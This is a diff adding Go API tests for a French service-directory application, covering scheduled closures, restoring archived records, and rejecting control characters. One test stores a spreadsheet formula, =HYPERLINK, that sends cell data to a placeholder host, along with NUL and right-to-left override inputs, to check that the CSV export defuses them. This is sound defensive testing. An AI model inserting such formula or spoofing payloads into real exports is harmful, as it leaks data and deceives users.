@@ -1,0 +1,168 @@
+package api_test
+
+import (
+	"context"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"carnet/api/apitest"
+	"carnet/models"
+)
+
+// TestClosuresByTheClock reproduces item 10 of issue 12: a future closure
+// hid the place at once and a closure that ended still hid it; referrals
+// were accepted to and from closed structures; archived records could not
+// be restored by their managers.
+func TestClosuresByTheClock(t *testing.T) {
+	now := time.Date(2026, 12, 20, 10, 0, 0, 0, time.UTC) // 11:00 in Paris
+	var mu sync.Mutex
+	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
+	advance := func(d time.Duration) { mu.Lock(); now = now.Add(d); mu.Unlock() }
+	w := newReferralWorld(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*time.Hour))
+	e := w.e
+	b := "/api/v1/actors/" + w.b
+	status := func() string { return str(e.Do(apitest.Request{Method: "GET", Path: b}).Map()["status"]) }
+	found := func() bool {
+		return strings.Contains(e.Do(apitest.Request{Method: "GET", Path: "/api/v1/search/services?q=demarches"}).Body.String(), w.s)
+	}
+	listed := func(st string) bool {
+		return strings.Contains(e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors?status=" + st}).Body.String(), w.b)
+	}
+	// Announced for the 24th to the 2nd: visible until it starts.
+	r := e.Do(apitest.Request{Method: "PATCH", Path: b, Token: e.Admin, Body: obj{"status": "temporarily_closed", "closed_from": "2026-12-24", "closed_until": "2027-01-02", "closure_reason": "Fermeture annuelle"}})
+	if r.Code != 200 {
+		t.Fatal(r.Code, r.Body)
+	}
+	if s := status(); s != "active" || !found() || !listed("active") || listed("temporarily_closed") {
+		t.Errorf("announced closure: status %s, found %v", s, found())
+	}
+	got := e.Do(apitest.Request{Method: "GET", Path: b}).Map()
+	if got["closed_from"] != "2026-12-24" || got["closure_reason"] != "Fermeture annuelle" {
+		t.Errorf("the announcement is not shown: %v", got)
+	}
+	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/referrals", Token: w.memberA, Body: referralBody(w.a, w.s)}); r.Code != 201 {
+		t.Errorf("referral before the closure: %d %s", r.Code, r.Body)
+	}
+	// A client that writes back what it read keeps the announcement.
+	if r := e.Do(apitest.Request{Method: "PATCH", Path: b, Token: e.Admin, Body: obj{"status": "active", "summary": "Relu"}}); r.Code != 200 || r.Map()["closed_from"] != "2026-12-24" {
+		t.Errorf("write-back of an announced closure: %d %s", r.Code, r.Body)
+	}
+	// The 24th at midnight in Paris: closed, without a write.
+	advance(3*24*time.Hour + 13*time.Hour + time.Minute) // 2026-12-24 00:01 Paris
+	if s := status(); s != "temporarily_closed" || found() || listed("active") || !listed("temporarily_closed") {
+		t.Errorf("closure in effect: status %s, found %v", s, found())
+	}
+	if !strings.Contains(e.Do(apitest.Request{Method: "GET", Path: "/api/v1/search/services?q=demarches&status=temporarily_closed"}).Body.String(), w.s) {
+		t.Error("a closed place is not found on request")
+	}
+	r = e.Do(apitest.Request{Method: "POST", Path: "/api/v1/referrals", Token: w.memberA, Body: referralBody(w.a, w.s)})
+	if r.Code != 422 || !strings.Contains(r.Body.String(), "temporarily closed until 2027-01-02") || !hasAll(fields(t, r), "to_service_id") {
+		t.Errorf("referral to a closed place: %d %s", r.Code, r.Body)
+	}
+	cs := str(createService(t, e, validService(w.c, "Atelier"))["id"])
+	_, memberB := w.e.Account("autre.b@example.fr", map[string]models.Role{w.b: models.RoleMember}, models.Territory{})
+	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/referrals", Token: memberB, Body: referralBody(w.b, cs)}); r.Code != 422 || !hasAll(fields(t, r), "from_actor_id") {
+		t.Errorf("referral from a closed place: %d %s", r.Code, r.Body)
+	}
+	// The 3rd: reopened by itself.
+	advance(10 * 24 * time.Hour)
+	if s := status(); s != "active" || !found() || !listed("active") {
+		t.Errorf("after the closure: status %s, found %v", s, found())
+	}
+}
+
+// TestManagersRestoreArchivedRecords: archived records come back with a
+// restore, by those who may edit them, in the history and the feed.
+func TestManagersRestoreArchivedRecords(t *testing.T) {
+	e := apitest.New(t)
+	a := str(createActor(t, e, validActor("Espace numérique"))["id"])
+	published := str(createService(t, e, validService(a, "Accès libre"))["id"])
+	draft := str(createService(t, e, merge(validService(a, "Atelier en préparation"), obj{"status": "draft"}))["id"])
+	_, manager := e.Account("gerant@example.fr", map[string]models.Role{a: models.RoleManager}, models.Territory{})
+	_, stranger := e.Account("autre@example.fr", nil, models.Territory{})
+	path := "/api/v1/actors/" + a
+	if r := e.Do(apitest.Request{Method: "DELETE", Path: path, Token: manager}); r.Code != 204 {
+		t.Fatal(r.Code)
+	}
+	if r := e.Do(apitest.Request{Method: "POST", Path: path + "/restore", Token: stranger}); r.Code != 403 {
+		t.Errorf("a stranger restores: %d", r.Code)
+	}
+	r := e.Do(apitest.Request{Method: "POST", Path: path + "/restore", Token: manager})
+	if r.Code != 200 || r.Map()["archived_at"] != nil {
+		t.Fatalf("restore: %d %s", r.Code, r.Body)
+	}
+	if r := e.Do(apitest.Request{Method: "POST", Path: path + "/restore", Token: manager}); r.Code != 409 {
+		t.Errorf("restoring a live actor: %d", r.Code)
+	}
+	for id, want := range map[string]string{published: "published", draft: "draft"} {
+		if got := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/services/" + id, Token: manager}).Map(); got["status"] != want {
+			t.Errorf("service restored as %v, want %s", got["status"], want)
+		}
+	}
+	if !strings.Contains(e.Do(apitest.Request{Method: "GET", Path: path + "/history", Token: manager}).Body.String(), `"action":"restore"`) {
+		t.Error("the restore is not in the history")
+	}
+	// A service alone, and not while its actor is archived.
+	if r := e.Do(apitest.Request{Method: "DELETE", Path: "/api/v1/services/" + published, Token: manager}); r.Code != 204 {
+		t.Fatal(r.Code)
+	}
+	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/services/" + published + "/restore", Token: manager}); r.Code != 200 || r.Map()["status"] != "published" {
+		t.Errorf("service restore: %d %s", r.Code, r.Body)
+	}
+	e.Do(apitest.Request{Method: "DELETE", Path: path, Token: manager})
+	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/services/" + draft + "/restore", Token: manager}); r.Code != 409 {
+		t.Errorf("service of an archived actor restored: %d", r.Code)
+	}
+}
+
+// TestTextRefusesControlCharacters reproduces item 11 of issue 12: NUL and
+// other control characters, and U+202E, were accepted in names and written
+// raw into the CSV export. The model refuses them in every text field, and
+// the CSV export neither passes on such characters (whatever was stored
+// before) nor lets a cell run as a spreadsheet formula.
+func TestTextRefusesControlCharacters(t *testing.T) {
+	e := apitest.New(t)
+	for name, v := range map[string]string{"NUL": "Espace\x00numérique", "bell": "Espace\anumérique", "escape": "Espace\x1b[31m", "DEL": "Espace\x7f", "C1": "Espace\u0085numérique",
+		"right-to-left override": "Espace \u202Eeuqirémun", "isolate": "Espace \u2066x\u2069", "line break in a name": "Espace\nnumérique"} {
+		r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors", Token: e.Admin, Body: validActor(v)})
+		if r.Code != 422 || !hasAll(fields(t, r), "name") {
+			t.Errorf("%s in a name: %d %s", name, r.Code, r.Body)
+		}
+	}
+	for field, body := range map[string]obj{
+		"address.street": merge(validActor("x"), obj{"address": obj{"street": "1 rue\x00", "postal_code": "13001", "commune": "Marseille"}}),
+		"description":    merge(validActor("x"), obj{"description": "ligne\u202E"}),
+		"source_id":      merge(validActor("x"), obj{"source": "s", "source_id": "a\x00"}),
+	} {
+		if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors", Token: e.Admin, Body: body}); r.Code != 422 || !hasAll(fields(t, r), field) {
+			t.Errorf("%s: %d %s", field, r.Code, r.Body)
+		}
+	}
+	// Line breaks stay allowed where text spans lines.
+	a := createActor(t, e, merge(validActor("Médiathèque"), obj{"description": "Accès libre.\nAteliers le mardi.\n\t- débutants"}))
+	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/services", Token: e.Admin, Body: merge(validService(str(a["id"]), "Atelier"), obj{"description": "x\x00"})}); r.Code != 422 {
+		t.Errorf("NUL in a service: %d", r.Code)
+	}
+	_, member := e.Account("m@example.fr", map[string]models.Role{str(a["id"]): models.RoleMember}, models.Territory{})
+	if r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/actors/" + str(a["id"]) + "/join-requests", Token: member, Body: obj{"message": "bonjour\u202E"}}); r.Code != 422 && r.Code != 409 {
+		t.Errorf("override in a message: %d", r.Code)
+	}
+
+	// The export of what was stored before the checks existed.
+	createActor(t, e, validActor("=HYPERLINK(\"http://x.example/?\"&A1,\"Cliquez\")"))
+	if _, err := openRaw(t, e).ExecContext(context.Background(), "UPDATE actors SET name = ? WHERE name = 'Médiathèque'", "Vieux\x00nom\u202E"); err != nil {
+		t.Fatal(err)
+	}
+	csv := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv"}).Body.String()
+	if strings.ContainsAny(csv, "\x00\u202E") {
+		t.Error("control or direction characters in the CSV export")
+	}
+	if !strings.Contains(csv, "Vieuxnom") || !strings.Contains(csv, `"'=HYPERLINK(`) {
+		t.Errorf("CSV export: %s", csv)
+	}
+	if strings.Contains(csv, ",=HYPERLINK") || strings.Contains(csv, `,"=HYPERLINK`) {
+		t.Error("a formula cell in the CSV export")
+	}
+}
